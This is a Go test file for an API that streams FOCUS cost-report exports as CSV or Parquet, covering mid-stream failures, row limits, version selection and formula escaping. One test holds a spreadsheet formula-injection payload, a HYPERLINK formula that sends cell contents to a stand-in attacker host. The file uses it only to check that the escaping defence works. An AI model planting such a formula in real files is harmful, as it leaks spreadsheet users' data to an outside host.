package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/slicemeter/slicemeter/attribution/focus"
	"github.com/slicemeter/slicemeter/attribution/focus/focustest"
	"github.com/slicemeter/slicemeter/attribution/report"
)

// hourlyLines is a Reporter of two tenants' line items, one allocation each, that fails the
// hour starting at failAt (zero: none).
func hourlyLines(failAt time.Time) Reporter {
	return func(_ context.Context, q ReportQuery) (report.Report, error) {
		if q.From.Equal(failAt) {
			return report.Report{}, errors.New("read the minutes: connection reset")
		}
		rep := report.Report{WindowStart: q.From, WindowEnd: q.To, Currency: "USD"}
		for _, tenant := range []string{"acme", "beta"} {
			rep.Allocations = append(rep.Allocations, report.AllocationRow{Tenant: tenant, AllocationID: tenant[:1] + "1", Tier: "pro",
				WindowStart: q.From, WindowEnd: q.To, Node: "n", Instance: "gpu0", Kind: "gpu", Model: "A100-SXM4-40GB", Fraction: 1,
				Allocated: q.To.Sub(q.From), Cost: 1, ListCost: 1, Currency: "USD"})
		}
		return rep, nil
	}
}

// TestFOCUSStream: the FOCUS export is streamed. What fails in the first hour (its report, the
// row limit, a bad encoding) is a 4xx/5xx with a JSON reason; what fails in a later hour comes
// after a 200 and the first hour's rows, and cuts the response so that the client sees a
// truncated body, not a short file that looks whole. encoding=parquet gives the same rows as
// Parquet.
func TestFOCUSStream(t *testing.T) {
	from := time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC)
	const hours = 4
	for _, tc := range []struct {
		name     string
		failAt   time.Time // the hour whose report fails
		maxRows  int
		query    string
		status   int
		reason   string // in the JSON error of a status other than 200
		cut      bool   // the body ends without its end
		rows     int    // CSV rows received (a cut body: at least)
		encoding focus.Format
	}{
		{name: "whole", status: 200, rows: 2 * hours, encoding: focus.CSV},
		{name: "parquet", query: "&encoding=parquet", status: 200, rows: 2 * hours, encoding: focus.Parquet},
		{name: "bad encoding", query: "&encoding=xml", status: 400, reason: `encoding: "xml"; expected csv or parquet`},
		{name: "hour 1 fails", failAt: from, status: 500, reason: "internal error: the service's log has the reason under error_id"},
		{name: "hour 3 fails", failAt: from.Add(2 * time.Hour), status: 200, cut: true, rows: 2, encoding: focus.CSV},
		{name: "parquet, hour 3 fails", failAt: from.Add(2 * time.Hour), query: "&encoding=parquet", status: 200, cut: true},
		{name: "rows over the limit in hour 1", maxRows: 1, status: 400, reason: "--api.max-report-rows"},
		{name: "rows over the limit after hour 1", maxRows: 5, status: 200, cut: true, rows: 2, encoding: focus.CSV},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := &Server{Store: &memStore{}, Auth: AllowAll{}, Report: hourlyLines(tc.failAt)}
			if tc.maxRows > 0 {
				s.Limits = DefaultReportLimits()
				s.Limits.MaxRows = tc.maxRows
			}
			srv := httptest.NewServer(http.HandlerFunc(s.getReport))
			defer srv.Close()
			resp, err := http.Get(srv.URL + "/api/v1/report?format=focus&from=" + from.Format(time.RFC3339) + "&to=" +
				from.Add(hours*time.Hour).Format(time.RFC3339) + tc.query)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			b, readErr := io.ReadAll(resp.Body)
			if resp.StatusCode != tc.status {
				t.Fatalf("status %d: %s; want %d", resp.StatusCode, b, tc.status)
			}
			if tc.status != 200 {
				var p problem
				if resp.Header.Get("Content-Type") != "application/json" || json.Unmarshal(b, &p) != nil || !strings.Contains(p.Error, tc.reason) {
					t.Errorf("%s %q: want a JSON error naming %q", resp.Header.Get("Content-Type"), b, tc.reason)
				}
				return
			}
			if cut := errors.Is(readErr, io.ErrUnexpectedEOF); cut != tc.cut || !cut && readErr != nil {
				t.Fatalf("reading the body: %v; want it cut: %v", readErr, tc.cut)
			}
			if !strings.Contains(resp.Header.Get("Link"), "format=focus-metadata") {
				t.Errorf("Link %q", resp.Header.Get("Link"))
			}
			var got int
			switch tc.encoding {
			case focus.CSV:
				// A cut body may end inside a row: count the whole lines after the header.
				r := csv.NewReader(bytes.NewReader(b[:bytes.LastIndexByte(b, '\n')+1]))
				lines, err := r.ReadAll()
				if err != nil || len(lines) == 0 || lines[0][0] != focus.Columns()[0] {
					t.Fatalf("CSV %q: %v", b, err)
				}
				got = len(lines) - 1
			case focus.Parquet:
				rows, err := focus.ReadParquet(bytes.NewReader(b), int64(len(b)))
				if err != nil {
					t.Fatalf("Parquet: %v", err)
				}
				got = len(rows)
			default:
				return
			}
			if tc.cut && got < tc.rows || !tc.cut && got != tc.rows {
				t.Errorf("%d rows received; want %d (at least, if cut: %v)", got, tc.rows, tc.cut)
			}
		})
	}
}

// TestFOCUSFormulaCells: the API's FOCUS export writes an allocation id a spreadsheet would
// evaluate with a leading ' in x_AllocationId and ChargeDescription (CSV); Parquet keeps it.
func TestFOCUSFormulaCells(t *testing.T) {
	const id = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
	from := time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC)
	s := &Server{Store: &memStore{}, Auth: AllowAll{}, Report: func(_ context.Context, q ReportQuery) (report.Report, error) {
		return report.Report{WindowStart: q.From, WindowEnd: q.To, Currency: "USD", Allocations: []report.AllocationRow{{Tenant: "acme",
			AllocationID: id, Tier: "pro", WindowStart: q.From, WindowEnd: q.To, Node: "n", Instance: "gpu0", Kind: "gpu",
			Model: "A100-SXM4-40GB", Fraction: 1, Allocated: q.To.Sub(q.From), Cost: 1, ListCost: 1, Currency: "USD"}}}, nil
	}}
	srv := httptest.NewServer(http.HandlerFunc(s.getReport))
	defer srv.Close()
	get := func(query string) []byte {
		resp, err := http.Get(srv.URL + "/api/v1/report?format=focus&from=" + from.Format(time.RFC3339) + "&to=" + from.Add(time.Hour).Format(time.RFC3339) + query)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 200 {
			t.Fatalf("status %d: %s", resp.StatusCode, b)
		}
		return b
	}
	rows, err := csv.NewReader(bytes.NewReader(get(""))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, col := range []string{"x_AllocationId", "ChargeDescription"} {
		if got := rows[1][slices.Index(rows[0], col)]; !strings.HasPrefix(got, "'"+id) {
			t.Errorf("%s %q, want it to start with '%s", col, got, id)
		}
	}
	b := get("&encoding=parquet")
	pq, err := focus.ReadParquet(bytes.NewReader(b), int64(len(b)))
	if err != nil || len(pq) != 1 || pq[0].XAllocationID == nil || *pq[0].XAllocationID != id {
		t.Errorf("Parquet: %v, %d rows; want the raw id", err, len(pq))
	}
}

// TestFOCUSVersionParam: the FOCUS export and its metadata are FOCUS 1.3 by default and 1.2
// with focus_version=1.2 (the API's name of --focus.version); another version is a 400 naming
// the parameter.
func TestFOCUSVersionParam(t *testing.T) {
	from := time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC)
	s := &Server{Store: &memStore{}, Auth: AllowAll{}, Report: hourlyLines(time.Time{})}
	srv := httptest.NewServer(http.HandlerFunc(s.getReport))
	defer srv.Close()
	for _, tc := range []struct {
		query   string
		status  int
		version string // the metadata's and the file's
	}{
		{"", 200, "1.3"},
		{"&focus_version=1.3", 200, "1.3"},
		{"&focus_version=1.2", 200, "1.2"},
		{"&focus_version=1.4", 400, ""},
	} {
		for _, format := range []string{"focus", "focus-metadata"} {
			t.Run(format+tc.query, func(t *testing.T) {
				resp, err := http.Get(srv.URL + "/api/v1/report?format=" + format + "&from=" + from.Format(time.RFC3339) + "&to=" +
					from.Add(2*time.Hour).Format(time.RFC3339) + tc.query)
				if err != nil {
					t.Fatal(err)
				}
				defer resp.Body.Close()
				b, err := io.ReadAll(resp.Body)
				if err != nil || resp.StatusCode != tc.status {
					t.Fatalf("status %d: %s (%v); want %d", resp.StatusCode, b, err, tc.status)
				}
				if tc.status != 200 {
					var p problem
					if json.Unmarshal(b, &p) != nil || !strings.Contains(p.Error, "focus_version") {
						t.Errorf("%s: want a JSON error naming focus_version", b)
					}
					return
				}
				if format == "focus-metadata" {
					var m focus.Metadata
					if err := json.Unmarshal(b, &m); err != nil || m.Schema.FocusVersion != tc.version {
						t.Fatalf("metadata %s: %v", b, err)
					}
					if tc.version == "1.3" {
						focustest.CheckMetadata13(t, b, true, false)
					} else if len(m.Recency) != 0 || len(m.DatasetInstance) != 0 {
						t.Errorf("FOCUS 1.2 metadata with 1.3's Recency or DatasetInstance: %s", b)
					}
					return
				}
				rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
				if err != nil || len(rows) < 2 {
					t.Fatalf("CSV %q: %v", b, err)
				}
				if !slices.Equal(rows[0], focus.Version(tc.version).Columns()) {
					t.Errorf("header %v, want FOCUS %s's %v", rows[0], tc.version, focus.Version(tc.version).Columns())
				}
				if tc.version == "1.3" {
					focustest.Check13(t, rows)
				} else {
					focustest.Check12(t, rows)
				}
			})
		}
	}
}
